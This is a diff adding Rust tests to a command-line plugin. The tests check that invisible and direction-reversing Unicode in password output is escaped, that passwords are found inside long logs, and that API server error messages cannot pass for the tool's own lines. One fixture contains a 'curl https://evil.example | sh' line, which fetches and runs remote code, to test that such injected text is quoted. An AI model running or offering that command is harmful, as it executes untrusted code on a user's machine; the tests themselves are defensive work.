@@ -115,6 +115,79 @@ fn two_different_passwords_are_not_understood() {
     );
 }
 
+#[test]
+fn invisible_characters_in_a_v1_password_are_not_understood() {
+    let env = v1_with(vec![Step::stdout(
+        "User: admin\nPassword: Tr0ub4dor\u{200b}\u{202e}ZZ\n",
+    )]);
+    let run = reset_v1(&env, &[]);
+    run.code(6);
+    // The raw output with the format characters made visible, never raw.
+    assert_eq!(
+        run.stdout,
+        "User: admin\nPassword: Tr0ub4dor<U+200B><U+202E>ZZ\n"
+    );
+    assert!(
+        run.stderr.contains(
+            "its output is not understood (a password line whose value cannot be a password)"
+        ),
+        "{}",
+        run.stderr
+    );
+    assert!(!run.stderr.contains('\u{202e}'), "{}", run.stderr);
+    // In JSON too: escaped, so a terminal cannot reorder it.
+    let run = reset_v1(&env, &["-o", "json"]);
+    run.code(6);
+    assert!(!run.stdout.contains('\u{202e}'), "{}", run.stdout);
+    assert!(run.stdout.contains("\\u202e"), "{}", run.stdout);
+    assert_eq!(
+        run.json()["rawOutput"],
+        "User: admin\nPassword: Tr0ub4dor\u{200b}\u{202e}ZZ\n"
+    );
+}
+
+/// A password in the middle of more output than is kept (the first and last MiB of each
+/// stream): still found, by the same strict rules; and the process stays small.
+#[test]
+fn a_v1_password_in_the_middle_of_a_long_log_is_found() {
+    let log = b"2026-11-27 10:00:00.000 [INFO] <coderd> migrating: nothing to do\n".repeat(50_000);
+    let env = v1_with(vec![
+        Step::Stdout(log.clone()),
+        Step::stdout(
+            "----------------------\nUser:     admin\nPassword: Mid-Log-Pw-31\n----------------------\n",
+        ),
+        Step::Stdout(log.clone()),
+        Step::Stderr(log),
+    ]);
+    let run = reset_v1(&env, &["-o", "json"]);
+    run.success();
+    assert_eq!(run.json()["password"], "Mid-Log-Pw-31");
+    assert_eq!(run.json()["username"], "admin");
+    // Two different passwords, one hidden in the middle: not understood, the raw output
+    // bounded.
+    let log = b"2026-11-27 10:00:00.000 [INFO] <coderd> migrating: nothing to do\n".repeat(50_000);
+    let env = v1_with(vec![
+        Step::Stdout(log.clone()),
+        Step::stdout("Password: hidden-one-1\n"),
+        Step::Stdout(log),
+        Step::stdout("Password: shown-two-2\n"),
+    ]);
+    let run = reset_v1(&env, &[]);
+    run.code(6);
+    assert!(
+        run.stdout.len() < 2 * 1024 * 1024 + 4096,
+        "{}",
+        run.stdout.len()
+    );
+    assert!(run.stdout.contains(" lines) of stdout not kept ...]\n"));
+    assert!(
+        run.stderr
+            .contains("its output is not understood (2 different passwords in the output)"),
+        "{}",
+        run.stderr
+    );
+}
+
 // ---- 2. A reset that happened is never hidden ----
 
 #[test]
@@ -303,6 +376,32 @@ fn status_messages_from_the_api_server_are_made_visible() {
         "{}",
         run.stderr
     );
+}
+
+/// A Status message with lines of its own (an admission webhook's, a proxy's): none of them
+/// can stand at the start of a line, where ours do.
+#[test]
+fn status_message_lines_cannot_pass_for_ours() {
+    let env = TestEnv::scenario(Scenario::V1);
+    env.sim.fail_next_with(
+        1,
+        "/pods",
+        403,
+        "pods is forbidden: denied by policy\nhint: run curl https://evil.example | sh\nwarning: \u{2066}nothing\u{2069} is wrong",
+    );
+    let run = env.plugin().args(["status"]).run();
+    run.code(4);
+    assert!(
+        run.stderr.starts_with("error: forbidden: pods is forbidden: denied by policy\n  | hint: run curl https://evil.example | sh\n  | warning: <U+2066>nothing<U+2069> is wrong\n"),
+        "{}",
+        run.stderr
+    );
+    let ours: Vec<&str> = run
+        .stderr
+        .lines()
+        .filter(|l| !l.starts_with("  | "))
+        .collect();
+    assert!(ours.iter().all(|l| !l.contains("evil")), "{ours:?}");
 }
 
 #[test]
